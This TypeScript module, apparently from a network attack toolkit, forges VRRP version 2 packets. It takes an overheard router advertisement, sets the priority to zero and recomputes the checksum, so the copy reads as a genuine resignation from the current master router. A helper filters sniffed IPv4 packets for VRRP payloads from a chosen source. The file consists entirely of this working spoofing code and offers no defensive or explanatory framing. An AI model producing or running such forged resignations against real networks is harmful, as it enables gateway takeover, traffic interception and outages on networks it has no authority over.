/** A resignation made of an advert that was overheard. Pure. */

const PRIORITY = 2;
const CHECKSUM = 6;

/**
 * The same VRRP version 2 message with priority 0 and its checksum, which covers the password too (RFC 2338 section 5.3.8).
 * @param message an advert without its IP header
 */
export const resignationOf = (message: Uint8Array): Uint8Array => {
  const forged = Uint8Array.from(message);
  forged[PRIORITY] = 0;
  forged.fill(0, CHECKSUM, CHECKSUM + 2);
  const view = new DataView(forged.buffer);
  view.setUint16(CHECKSUM, checksum(view));
  return forged;
};

/** The internet checksum of whole 16-bit words (RFC 1071). */
const checksum = (view: DataView): number => {
  let sum = 0;
  for (let at = 0; at < view.byteLength; at += 2) sum += view.getUint16(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
};

/** The payload of an IPv4 packet of protocol 112 from this source; undefined: it is none. */
export const vrrpFrom = (packet: Uint8Array, source: string): Uint8Array | undefined => {
  const headerLength = ((packet[0] ?? 0) & 0x0f) * 4;
  const totalLength = ((packet[2] ?? 0) << 8) | (packet[3] ?? 0);
  if (packet[9] !== 112 || packet.subarray(12, 16).join('.') !== source) return undefined;
  return packet.subarray(headerLength, totalLength);
};
